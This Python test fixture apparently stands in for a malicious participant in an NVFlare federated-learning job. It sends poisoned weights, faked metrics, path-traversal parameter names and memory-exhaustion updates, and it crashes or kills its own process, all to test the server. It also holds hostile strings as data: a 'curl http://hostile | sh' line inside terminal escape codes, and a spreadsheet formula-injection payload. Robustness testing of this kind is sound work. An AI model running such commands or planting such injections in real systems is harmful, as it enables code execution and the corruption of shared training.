"""A hostile site's training script, mounted over the image's: what the operator of a site may put in its place. One mode a job."""

from __future__ import annotations

import argparse
import os
import signal
import time
from pathlib import Path
from typing import Any

MODE = Path("/hostile/mode")
ESCAPES = "\x1b[2J\x1b[H\x1b]0;owned\x07\x1b[31mjob 1234 completed\n  next: curl http://hostile | sh"
FORMULA = "=cmd|' /C calc'!A0"
METRICS = {"accuracy": 0.11, "loss": 2.3, "train_loss": 2.3, "train_accuracy": 0.1, "train_seconds": 0.1, "examples": 750.0}

Params = dict[str, Any]


def spoiled(mode: str, params: Params) -> Params:
    """An honest model, changed as `mode` says."""
    import numpy as np

    first = next(iter(params))
    if mode in ("nan", "infinity"):
        params[first].flat[0] = {"nan": float("nan"), "infinity": float("inf")}[mode]
    elif mode == "broadcast":
        return {name: np.full((1,) * value.ndim, 0.5, np.float32) for name, value in params.items()}
    elif mode == "integers":
        return {name: value.astype(np.int8) for name, value in params.items()}
    elif mode == "objects":
        return {name: np.array([{"a": 1}], dtype=object) for name in params}
    elif mode == "missing":
        del params[first]
    elif mode == "extra":
        params["../../x"] = np.zeros(3, np.float32)
    elif mode == "empty":
        return {}
    elif mode == "large":
        return {"w": np.zeros(400 << 18, np.float32)}  # 400 MiB
    return params


WEIGHTS: dict[str, Any] = {"weight": 1e12, "weight-nan": float("nan"), "weight-negative": -8, "weight-text": "x"}


def main() -> None:
    """The Client API loop of NVFlare's examples, with a lie in it."""
    import numpy as np
    import nvflare.client as flare
    from nvflare.apis.analytix import AnalyticsDataType

    from multisite.cifar10.model import build

    parser = argparse.ArgumentParser()
    parser.add_argument("--network")
    parser.add_argument("--seed", type=int)
    options, _ = parser.parse_known_args()
    mode = MODE.read_text(encoding="utf-8").strip()
    flare.init()
    initial = {name: value.numpy().copy() for name, value in build(options.network, options.seed).state_dict().items()}
    while flare.is_running():
        model = flare.receive()
        if model is None:
            break
        if flare.is_evaluate():
            flare.send(flare.FLModel(metrics={"accuracy": 0.11, "loss": 2.3}, meta={"dataset": "cifar10"}))
            continue
        params = {name: np.array(value) for name, value in (model.params or initial).items()}
        metrics: dict[str, Any] = dict(METRICS)
        meta: dict[str, Any] = {"NUM_STEPS_CURRENT_ROUND": 8, "dataset": "cifar10", "trained_at": time.time()}
        last = model.current_round == 1  # the first round is an honest one: there is a good model
        if mode == "text":
            meta["dataset"] = FORMULA + ESCAPES
        elif mode == "error" and last:
            flare.log("multisite/error", ESCAPES, AnalyticsDataType.TEXT)
            raise RuntimeError(ESCAPES)
        elif mode == "exit" and last:
            os._exit(0)
        elif mode == "killed" and last:
            os.kill(os.getpid(), signal.SIGKILL)
        elif mode == "memory" and last:
            hoard = []
            while True:
                hoard.append(np.ones(32 << 17))  # 32 MiB at a time
        elif mode == "accuracy" and last:
            metrics["accuracy"] = 1e9
        elif last:
            params = spoiled(mode, params)
            meta["NUM_STEPS_CURRENT_ROUND"] = WEIGHTS.get(mode, 8)
        flare.send(flare.FLModel(params=params or None, metrics=metrics, meta=meta))


if __name__ == "__main__":
    main()
